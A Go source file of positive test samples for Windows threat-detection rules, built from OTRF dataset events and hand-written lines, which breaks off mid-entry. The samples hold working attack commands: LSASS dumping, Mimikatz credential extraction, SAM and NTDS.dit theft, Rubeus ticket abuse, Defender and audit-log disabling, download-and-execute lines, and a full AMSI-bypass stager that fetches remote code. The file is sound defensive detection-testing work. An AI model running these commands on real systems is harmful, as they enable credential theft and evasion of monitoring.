// Code generated from matched corpus events and hand-written samples; edit freely.

package detect

// rulePositives holds, for each shipped rule, the fields of one event the
// rule must match: most are trimmed from the OTRF events the rule fired on
// (From OTRF Security-Datasets, MIT License, Copyright (c) 2021 Open Threat
// Research Forge), the rest are written for the rule.
var rulePositives = []ruleSample{
	{
		ID:      "70ef8c90-7109-4ea3-8908-44c727e790f6", // Audio Recording Started From PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "Get-MicrophoneAudio -Path $env:TEMP\\a.wav -Length 60",
		},
	},
	{
		ID:      "00bfd49a-c2fb-42ae-8ba0-ead21885e3b6", // Clipboard Read From a Command Line or Script
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "$c = Get-Clipboard; Invoke-RestMethod -Uri $u -Body $c",
		},
	},
	{
		ID:      "88cf665c-bd2f-48dc-9dcf-0de1152262a1", // Microphone Consent Store Written for a Script Host or User-Path Program
		Channel: "Security", EventID: 4663,
		Fields: map[string]string{
			"ObjectName": "\\REGISTRY\\MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\CapabilityAccessManager\\ConsentStore\\microphone\\NonPackaged\\C:#Windows#System32#WindowsPowerShell#v1.0#powershell.exe",
		},
	},
	{
		ID:      "33a7bb9a-6386-4094-8189-40957228d9ec", // Microphone Used by a Desktop Application
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 12,
		Fields: map[string]string{
			"TargetObject": "HKU\\S-1-5-21-526538150-889687948-186688817-1106\\Software\\Microsoft\\Windows\\CurrentVersion\\CapabilityAccessManager\\ConsentStore\\microphone\\NonPackaged",
		},
	},
	{
		ID:      "75fca29b-e876-4eb5-8a5e-18d138c31810", // Screen Captured From PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "$g.CopyFromScreen($b.Location, [Drawing.Point]::Empty, $b.size)",
		},
	},
	{
		ID:      "b13cdae2-6267-4e38-aedc-6cfa27bd9039", // BITS Job Downloads From an External URL
		Channel: "Microsoft-Windows-Bits-Client/Operational", EventID: 59,
		Fields: map[string]string{
			"url": "http://203.0.113.7/stage2.exe",
		},
	},
	{
		ID:      "ec32a154-dc6b-4083-9856-54432b42fc2a", // Executable Written by a Program Running From a User Folder
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
		Fields: map[string]string{
			"Image":          "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"TargetFilename": "C:\\Users\\PEDRO~1.GUS\\AppData\\Local\\Temp\\rtcpef.dll",
		},
	},
	{
		ID:      "005818c1-09c8-46c7-92cb-2301de39f2b9", // Kerberos Traffic Sent by a Program in a User Folder
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
		Fields: map[string]string{
			"DestinationPort": "88",
			"Image":           "C:\\Users\\sbeavers\\Desktop\\Rubeus.exe",
		},
	},
	{
		ID:      "3b3c584e-bebb-4df8-bafc-f767bef08739", // Script Host or LOLBin Writes an Executable
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
		Fields: map[string]string{
			"Image":          "C:\\windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"TargetFilename": "C:\\Windows\\System32\\wlbsctrl.dll",
		},
	},
	{
		ID:      "cdd422d4-8910-4334-8f68-16386b1affe4", // Program in a User Folder Opens an Outbound Connection on a Non-Web Port
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
		Fields: map[string]string{
			"DestinationIp":   "10.0.5.13",
			"DestinationPort": "8080",
			"Image":           "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"Initiated":       "true",
		},
	},
	{
		ID:      "d346ce27-9df4-449f-856d-71ad376ddb3e", // Program in a User Folder Connects to Remote Administration Ports
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 3,
		Fields: map[string]string{
			"DestinationIp":   "172.18.38.5",
			"DestinationPort": "445",
			"Image":           "C:\\Users\\pgustavo\\Desktop\\GruntHTTP.exe",
			"Initiated":       "true",
		},
	},
	{
		ID:      "0e667d96-72eb-4b3c-80f8-22a6e40a02c3", // Kerberos TGT Issued Without Pre-Authentication (AS-REP Roasting)
		Channel: "Security", EventID: 4768,
		Fields: map[string]string{
			"PreAuthType":          "0",
			"TicketEncryptionType": "0x17",
			"Status":               "0x0",
			"TargetUserName":       "svc_legacy",
		},
	},
	{
		ID:      "d8e27492-cfa0-48b4-b183-10bb88cd369b", // Failed Network or Interactive Logon
		Channel: "Security", EventID: 4625,
		Fields: map[string]string{},
	},
	{
		ID:      "b8bb0cd2-8779-4f6c-a284-1bd1e8c2434d", // Process Memory Dump via comsvcs.dll MiniDump
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\Windows\\System32\\rundll32.exe\" C:\\windows\\System32\\comsvcs.dll MiniDump 628 C:\\Windows\\Temp\\lsass-comsvcs.dmp full",
		},
	},
	{
		ID:      "3a426bb0-898c-4570-83b1-bb658209ea6b", // Credential Prompt UI Loaded by a Script Host
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ImageLoaded": "C:\\Windows\\System32\\credui.dll",
		},
	},
	{
		ID:      "30912949-108f-4365-9933-17c654c7656e", // Credential Prompt Raised From PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "$cred = $host.ui.PromptForCredential(\"Windows Security\", \"Please enter your password\", $env:username, \"\")",
		},
	},
	{
		ID:      "88515248-e0d9-44cb-b3de-f37159ae96d5", // Directory Replication Requested by a User Account (DCSync)
		Channel: "Security", EventID: 4662,
		Fields: map[string]string{
			"Properties":      "%%7688\r\n\t\t{1131f6aa-9c07-11d1-f79f-00c04fc2dcd2}\r\n\t{19195a5b-6da0-11d0-afd3-00c04fd930c9}\r\n",
			"SubjectUserName": "pgustavo",
		},
	},
	{
		ID:      "dd2d0aec-4912-44f9-9660-97e82e4b7ce7", // Esentutl Copies a Locked Credential Database
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "esentutl.exe  /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM",
			"Image":       "C:\\Windows\\System32\\esentutl.exe",
		},
	},
	{
		ID:      "24ce6087-f75b-4d8a-9868-794b626fb5ff", // RC4 Service Ticket Requested for a User Service Account
		Channel: "Security", EventID: 4769,
		Fields: map[string]string{
			"TicketEncryptionType": "0x17",
			"Status":               "0x0",
			"ServiceName":          "svc_sql",
			"TargetUserName":       "bob@EXAMPLE.LOCAL",
		},
	},
	{
		ID:      "d294c038-0be2-4f39-9aed-48d7340fc56c", // LSA Secrets Registry Key Dumped
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "PsExec.exe  -accepteula -s reg save HKLM\\security\\policy\\secrets C:\\Users\\wardog\\AppData\\Local\\Temp\\secrets",
		},
	},
	{
		ID:      "9721a72e-1b9a-4eaf-945c-473be5863dc3", // LSA Secrets or SAM Registry Keys Opened by a Non-System Process
		Channel: "Security", EventID: 4656,
		Fields: map[string]string{
			"ObjectType":  "Key",
			"ObjectName":  "\\REGISTRY\\MACHINE\\SECURITY\\Policy\\Secrets\\$MACHINE.ACC",
			"ProcessName": "C:\\Users\\bob\\AppData\\Local\\Temp\\tool.exe",
		},
	},
	{
		ID:      "5a4a3dca-9027-4204-9fb5-d5f005f99091", // LSASS Opened With Memory-Dump Rights
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
		Fields: map[string]string{
			"GrantedAccess": "0x1fffff",
			"SourceImage":   "C:\\Program Files\\procdump.exe",
			"TargetImage":   "C:\\Windows\\system32\\lsass.exe",
		},
	},
	{
		ID:      "006e0030-238c-4229-b59d-e376b9a5973e", // LSASS Read Through the Minidump API
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
		Fields: map[string]string{
			"CallTrace":   "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\SYSTEM32\\ntdll.dll+d7c1a|C:\\Windows\\System32\\KERNEL32.DLL+1decc|C:\\Windows\\System32\\KERNEL32.DLL+2655e|C:\\Windows\\SYSTEM32\\dbgcore.DLL+99b1|C:\\Windows\\SYSTEM32\\dbgcore.DLL+179b5|C:\\Windows\\SYSTEM32\\dbgcore.DLL+11425|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6222|C:\\Windows\\SYSTEM32\\dbgcore.DLL+6cfb|C:\\Program Files\\procdump64.exe+146b8|C:\\Program Files\\procdump64.exe+140f5|C:\\Program Files\\procdump64.exe+14023|C:\\Program Files\\procdump64.exe+13bdb|C:\\Windows\\System32\\KERNEL32.DLL+17034|C:\\Windows\\SYSTEM32\\ntdll.dll+526a1",
			"SourceImage": "C:\\Program Files\\procdump64.exe",
			"TargetImage": "C:\\Windows\\system32\\lsass.exe",
		},
	},
	{
		ID:      "e7f6e2eb-e3d7-4795-85a6-a3b387efdb05", // LSASS Accessed From Unbacked Memory
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 10,
		Fields: map[string]string{
			"CallTrace":     "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|UNKNOWN(000000000338D19A)",
			"GrantedAccess": "0x1410",
			"SourceImage":   "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"TargetImage":   "C:\\Windows\\system32\\lsass.exe",
		},
	},
	{
		ID:      "342d6859-bac9-43fb-9c17-6b4601d44514", // LSASS Dump File Written
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
		Fields: map[string]string{
			"Image":          "C:\\Program Files\\procdump64.exe",
			"TargetFilename": "C:\\Windows\\Temp\\lsass_dump-3.dmp",
		},
	},
	{
		ID:      "b773fd1f-e999-4ffc-9c04-b5b820bd5d5a", // Mimikatz Module Commands on a Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Users\\bob\\Desktop\\m.exe",
			"CommandLine": "m.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
		},
	},
	{
		ID:      "f04a79fa-70f2-4b50-af9e-180f3c598909", // PowerShell Loads Kerberos Crypto and Vault Libraries
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 7,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ImageLoaded": "C:\\Windows\\System32\\cryptdll.dll",
		},
	},
	{
		ID:      "eda7540c-2e90-4019-9bc4-bf2751be7c27", // Mimikatz Loaded or Run Through PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Invoke-Mimikatz): \"Invoke-Mimikatz\"\r\nParameterBinding(Invoke-Mimikatz): name=\"Command\"; value=\"sekurlsa::logonpasswords\"\r\n",
		},
	},
	{
		ID:      "e61a00cc-79bb-48aa-9755-1d09a55055a7", // Mimikatz or Reflective PE Loader in a PowerShell Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "Invoke-Mimikatz -Command \"sekurlsa::logonpasswords\"",
		},
	},
	{
		ID:      "05693dd9-7cd7-40e2-b917-f0c8b712962e", // Copy of NTDS.dit Written Outside the Directory Service
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 11,
		Fields: map[string]string{
			"Image":          "C:\\Windows\\system32\\ntdsutil.exe",
			"TargetFilename": "C:\\Windows\\Temp\\ntds_T1003\\Active Directory\\ntds.dit",
		},
	},
	{
		ID:      "5613e12e-de8a-48d1-a094-ac935a35ca86", // NTDS.dit Extracted With ntdsutil Install From Media
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "ntdsutil  \"ac i ntds\" \"ifm\" \"create full C:\\Windows\\Temp\\ntds_T1003\" q q",
			"Image":       "C:\\Windows\\System32\\ntdsutil.exe",
		},
	},
	{
		ID:      "57f00212-f6b4-4930-94ef-4af3436859b3", // PowerShell Memory Dump Function Used Against LSASS
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "iex (iwr -UseBasicParsing http://10.0.5.13/Out-Minidump.ps1) ; Get-Process lsass | Out-Minidump;",
		},
	},
	{
		ID:      "4c0fde37-40cd-4ee9-b26b-f06dffc3e094", // PowerShell Module Log Shows a Memory Dump Function
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Invoke-WebRequest): \"Invoke-WebRequest\"\nParameterBinding(Invoke-WebRequest): name=\"UseBasicParsing\"; value=\"True\"\nParameterBinding(Invoke-WebRequest): name=\"Uri\"; value=\"http://10.0.5.13/Out-Minidump.ps1\"\n",
		},
	},
	{
		ID:      "b882e1fa-becc-4695-b8ef-17c9cdc246b0", // Full Memory Dump of LSASS Requested on the Command Line
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\\\Program Files\\\\procdump.exe\" -accepteula -ma lsass.exe C:\\Windows\\Temp\\lsass_dump.dmp",
		},
	},
	{
		ID:      "b16cc9fd-9202-43b4-9ca2-9beeddcca566", // Raw Volume Read by a Script Host or User-Space Tool
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 9,
		Fields: map[string]string{
			"Image": "C:\\Users\\Public\\copy.exe",
		},
	},
	{
		ID:      "dea871a1-e239-4a5e-a1f1-11debc2f9c2f", // SAM, SYSTEM or SECURITY Hive Saved From the Registry
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "PsExec.exe  -accepteula -s reg save HKLM\\security\\policy\\secrets C:\\Users\\wardog\\AppData\\Local\\Temp\\secrets",
		},
	},
	{
		ID:      "b3eb6b92-8d6e-47bd-b260-6d5a119a7153", // Rubeus-Style Kerberos Ticket Abuse on the Command Line
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"C:\\users\\sbeavers\\Desktop\\Rubeus.exe\" asktgt /user:pgustavo /rc4:81d310fa34e6a56a31145445891bb7b8 /ptt",
		},
	},
	{
		ID:      "22798160-4973-48ed-9cd7-6d349253162a", // Credential Store Copied Out of a Volume Shadow Copy
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "esentutl.exe  /y /vss C:\\windows/system32/config/SAM /d C:\\ProgramData\\SAM",
		},
	},
	{
		ID:      "809bb6f3-481a-4690-9649-429e36adcf89", // Windows Vault Credentials Read
		Channel: "Security", EventID: 5381,
		Fields: map[string]string{},
	},
	{
		ID:      "b2a9ccdd-0ebc-46d6-a13f-7f6ae4a0ec73", // WDigest Plaintext Credential Caching Enabled
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Details":      "1",
			"TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\SecurityProviders\\WDigest\\UseLogonCredential",
		},
	},
	{
		ID:      "83d914c9-b634-46f0-b434-5baaa46b242e", // WDigest Plaintext Caching Enabled From a Command or Script
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\reg.exe",
			"CommandLine": "reg add HKLM\\SYSTEM\\CurrentControlSet\\Control\\SecurityProviders\\WDigest /v UseLogonCredential /t REG_DWORD /d 1 /f",
		},
	},
	{
		ID:      "d55f87ef-0a30-47fe-b27f-0e3e92c20066", // AMSI Bypass Attempted in PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "If($PSVersionTable.PSVersion.Major -ge 3){$Ref=[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils');$Ref.GetField('amsiInitFailed','NonPublic,Static').Setvalue($Null,$true);[System.Diagnostics.Eventing.EventProvider].GetField('m_enabled','NonPublic,Instance').SetValue([Ref].Assembly.GetType('System.Management.Automation.Tracing.PSEtwLogProvider').GetField('etwProvider','NonPublic,Static').GetValue($null),0);};[System.Net.ServicePointManager]::Expect100Continue=0;$wc=New-Object System.Net.WebClient;$u='Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko';$ser=$([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('aAB0AHQAcAA6AC8ALwAxADkAMgAuADEANgA4AC4ANQA2AC4ANAAwADoAOAA4ADgAOAA=')));$t='/admin/get.php';$wc.Headers.Add('User-Agent',$u);$wc.Proxy=[System.Net.WebRequest]::DefaultWebProxy;$wc.Proxy.Credentials = [System.Net.CredentialCache]::DefaultNetworkCredentials;$Script:Proxy = $wc.Proxy;$K=[System.Text.Encoding]::ASCII.GetBytes('AE7Po3DWc=|Cn8/]Or:_hBb}yNweYdSa');$R={$D,$K=$Args;$S=0..255;0..255|%{$J=($J+$S[$_]+$K[$_%$K.Count])%256;$S[$_],$S[$J]=$S[$J],$S[$_]};$D|%{$I=($I+1)%256;$H=($H+$S[$I])%256;$S[$I],$S[$H]=$S[$H],$S[$I];$_-bxor$S[($S[$I]+$S[$H])%256]}};$wc.Headers.Add(\"Cookie\",\"fkjStsjY=OVflqYWVy+VXy7KbtRBgiiwCQyQ=\");$data=$wc.DownloadData($ser+$t);$iv=$data[0..3];$data=$data[4..$data.length];-join[Char[]](& $R $data ($IV+$K))|IEX",
		},
	},
	{
		ID:      "e55ad606-b27a-4568-a6af-baf5e5bc45ad", // System Audit Policy Weakened
		Channel: "Security", EventID: 4719,
		Fields: map[string]string{
			"AuditPolicyChanges": "%%8448, %%8450",
			"SubjectUserName":    "bob",
		},
	},
	{
		ID:      "6e91e6b1-9009-484e-905a-4b7db018b5a1", // Auditpol Clears or Disables Audit Categories
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\auditpol.exe",
			"CommandLine": "auditpol /set /category:\"Logon/Logoff\" /success:disable /failure:disable",
		},
	},
	{
		ID:      "e9d0fd4b-d3f9-411c-a26c-0f14cc255a8c", // BITSAdmin Transfers or Schedules a Job Command
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "bitsadmin.exe  /transfer /Download /priority Foreground https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1197/T1197.md C:\\Users\\wardog\\AppData\\Local\\Temp\\bitsadmin1_flag.ps1",
			"Image":       "C:\\Windows\\System32\\bitsadmin.exe",
		},
	},
	{
		ID:      "36158a3b-76c7-4598-8c65-70a67c95322c", // Certutil Downloads or Decodes a File
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\certutil.exe",
			"CommandLine": "certutil -urlcache -split -f http://203.0.113.7/a.exe a.exe",
		},
	},
	{
		ID:      "f7a7a29b-3524-4dbd-b70b-a6bd9b7b3f80", // Process Command-Line Auditing Disabled
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Details":      "DWORD (0x00000000)",
			"TargetObject": "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit\\ProcessCreationIncludeCmdLine_Enabled",
		},
	},
	{
		ID:      "543434c4-ddc6-4138-8ae5-6ee5dcd2d7a9", // Command-Line Auditing Value Modified (Registry Audit)
		Channel: "Security", EventID: 4657,
		Fields: map[string]string{
			"ObjectValueName": "ProcessCreationIncludeCmdLine_Enabled",
		},
	},
	{
		ID:      "74012b31-7da9-4291-aa15-fc43fc0840e6", // Command-Line Auditing Policy Changed From a Command
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "reg  add HKEY_LOCAL_MACHINE\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Policies\\System\\Audit /t REG_DWORD /v ProcessCreationIncludeCmdLine_Enabled /d 0 /f",
		},
	},
	{
		ID:      "acfa0372-123b-479b-aefb-c9f743a9e42f", // Elevated Shell Spawned by the CMSTPLUA COM Surrogate
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":             "C:\\Windows\\System32\\cmd.exe",
			"ParentCommandLine": "C:\\windows\\system32\\DllHost.exe /Processid:{3E5FC7F9-9A51-4367-9063-A120244FBEC7}",
			"ParentImage":       "C:\\Windows\\System32\\dllhost.exe",
		},
	},
	{
		ID:      "96068507-f1e6-4b6d-a5c4-35287a23b85f", // CMSTP Silently Installs a Connection Profile
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\cmstp.exe\" /s C:\\ProgramData\\T1218.003_uacbypass.inf /au",
			"Image":       "C:\\Windows\\System32\\cmstp.exe",
		},
	},
	{
		ID:      "fbd34c06-a5e6-4b82-ba86-e6e078a86e76", // Control Panel Item Loaded From a Non-System Path
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\control.exe\" C:\\ProgramData\\calc.cpl",
			"Image":       "C:\\Windows\\System32\\control.exe",
		},
	},
	{
		ID:      "5610dc30-2c84-46e6-be5d-7f3ca9e346c0", // Remote Thread Created in Another Process
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 8,
		Fields: map[string]string{
			"SourceImage":   "C:\\Users\\stevie.marie\\Downloads\\winx64_payload.exe",
			"StartFunction": "-",
		},
	},
	{
		ID:      "44ff2ed5-932a-4067-8ccb-20be6299731a", // Microsoft Defender Protection Disabled From a Command
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"CommandLine": "powershell Set-MpPreference -DisableRealtimeMonitoring $true",
		},
	},
	{
		ID:      "79f14a46-5879-41f4-bc18-6f5109221965", // Security Descriptor of a Domain Object Modified
		Channel: "Security", EventID: 5136,
		Fields: map[string]string{
			"AttributeLDAPDisplayName": "nTSecurityDescriptor",
			"ObjectClass":              "domainDNS",
			"ObjectDN":                 "DC=theshire,DC=local",
			"SubjectUserName":          "pgustavo",
		},
	},
	{
		ID:      "0fc1630a-fa3d-4411-9102-6fe1bc4cadb9", // COM Surrogate Spawns a Command Shell
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\cmd.exe",
			"ParentImage": "C:\\Windows\\System32\\dllhost.exe",
		},
	},
	{
		ID:      "0fc7e857-4090-49ce-882d-e3ec71c56562", // Event Log File Path or Channel State Changed in the Registry
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 13,
		Fields: map[string]string{
			"Details":      "C:\\Windows\\System32\\winevt\\Not-Important-Log.evtx",
			"Image":        "C:\\Windows\\System32\\svchost.exe",
			"TargetObject": "HKLM\\System\\CurrentControlSet\\Services\\EventLog\\Security\\File",
		},
	},
	{
		ID:      "8350f6ec-31e1-475b-b811-d5f87bcb119c", // Event Log Service Reported Stopped or Set to Disabled
		Channel: "System", EventID: 7036,
		Fields: map[string]string{
			"param1": "Windows Event Log",
			"param2": "stopped",
		},
	},
	{
		ID:      "9f27d06c-9789-48c3-b165-84da7b3bebdb", // Windows Event Log Service Stopped or Disabled From a Command
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\sc.exe",
			"CommandLine": "sc config eventlog start= disabled",
		},
	},
	{
		ID:      "8761ca45-cb61-4d72-8b5b-0325a6a965c8", // Event Log Service Stopped or Disabled Through PowerShell
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4103,
		Fields: map[string]string{
			"Payload": "CommandInvocation(Stop-Service): \"Stop-Service\"\nParameterBinding(Stop-Service): name=\"Name\"; value=\"EventLog\"\nParameterBinding(Stop-Service): name=\"Force\"; value=\"True\"\n",
		},
	},
	{
		ID:      "29a70c08-432e-46bb-aa23-e8bde5cbede2", // Event Log Service Stopped or Disabled in a Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "Stop-Service -Name EventLog -Force",
		},
	},
	{
		ID:      "7833d987-3e44-4cc5-b49c-0b3a17ada942", // HTML Help Opens a Compiled Help File From an Unusual Location
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\hh.exe",
			"CommandLine": "hh.exe C:\\Users\\bob\\Downloads\\invoice.chm",
		},
	},
	{
		ID:      "1c675bf7-b43d-4118-88bd-b4ac2d2c4fbf", // HTML Help Spawns a Shell or Script Host
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"ParentImage": "C:\\Windows\\hh.exe",
			"Image":       "C:\\Windows\\System32\\cmd.exe",
			"CommandLine": "cmd.exe /c whoami",
		},
	},
	{
		ID:      "de9f9a17-3be3-4f47-93e4-cecff9689768", // InstallUtil Runs an Assembly From a User-Writable Path
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "\"cmd.exe\" /c C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\InstallUtil.exe /logfile= /LogToConsole=false /u c:\\ProgramData\\GruntHTTP.dll",
			"Image":       "C:\\Windows\\System32\\cmd.exe",
		},
	},
	{
		ID:      "6390ebd1-d0c3-41c4-bb7a-079db1990add", // Signed Proxy Binary Spawns a Child Process
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\calc.exe",
			"ParentImage": "C:\\Windows\\System32\\wbem\\WMIC.exe",
		},
	},
	{
		ID:      "3cb739c8-1f6c-4d5b-ab1e-c5b7b2a12994", // Mavinject Injects a DLL Into a Running Process
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\mavinject.exe\" 3440 /INJECTRUNNING C:\\ProgramData\\T1055.dll",
		},
	},
	{
		ID:      "3ddabe73-8335-4343-aa0b-a6271e8897ad", // MiniNt Key Created From a Command or Script
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"CommandLine": "REG  ADD HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Control\\MiniNt",
		},
	},
	{
		ID:      "b7b1b049-9158-48f2-a490-b938d6b82411", // MiniNt Key Created to Stop Event Logging
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 12,
		Fields: map[string]string{
			"TargetObject": "HKLM\\System\\CurrentControlSet\\Control\\MiniNt",
		},
	},
	{
		ID:      "da7710fd-dd22-406e-b6e6-16b6108f31d2", // MiniNt Key Created in a PowerShell Script Block
		Channel: "Microsoft-Windows-PowerShell/Operational", EventID: 4104,
		Fields: map[string]string{
			"ScriptBlockText": "New-Item -Path HKLM:\\SYSTEM\\CurrentControlSet\\Control\\MiniNt",
		},
	},
	{
		ID:      "07bec115-12a4-4eab-9f93-0cde72e982b3", // MSBuild Builds a Project From an Unusual Location or Parent
		Channel: "security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "cmd.exe /c C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe C:\\Windows\\Tasks\\pshell.xml",
			"Image":       "C:\\Windows\\System32\\cmd.exe",
			"ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
		},
	},
	{
		ID:      "43f5e7dd-e41b-4641-b8a5-2eb7fa4738a0", // MSBuild Spawns PowerShell or a Shell
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ParentImage": "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\MSBuild.exe",
		},
	},
	{
		ID:      "0650f842-0c35-48b4-9cef-386642b98f95", // Mshta Runs an HTA From a User-Writable or Startup Path
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "\"C:\\windows\\system32\\mshta.exe\" \"C:\\Users\\wardog\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\T1218.005.hta\"",
			"Image":       "C:\\Windows\\System32\\mshta.exe",
		},
	},
	{
		ID:      "d4b58758-9d5e-4ed2-97ad-051b67b358ef", // Mshta Executes Inline Script or a Remote Application
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"CommandLine": "mshta  vbscript:Execute(\"CreateObject(\"\"Wscript.Shell\"\").Run \"\"powershell -noexit -command Get-Service sysmon\"\":close\")",
			"Image":       "C:\\Windows\\System32\\mshta.exe",
		},
	},
	{
		ID:      "aeedeb8e-33ad-47df-88c5-11953dcd4c2a", // Mshta Spawns a Shell or Script Host
		Channel: "Security", EventID: 4688,
		Fields: map[string]string{
			"Image":       "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
			"ParentImage": "C:\\Windows\\System32\\mshta.exe",
		},
	},
	{
		ID:      "d67f0f5f-afe1-4335-abc5-e60a53114dfb", // Event Log Cleared From PowerShell
		Channel: "Microsoft-Windows-Sysmon/Operational", EventID: 1,
		Fields: map[string]string{
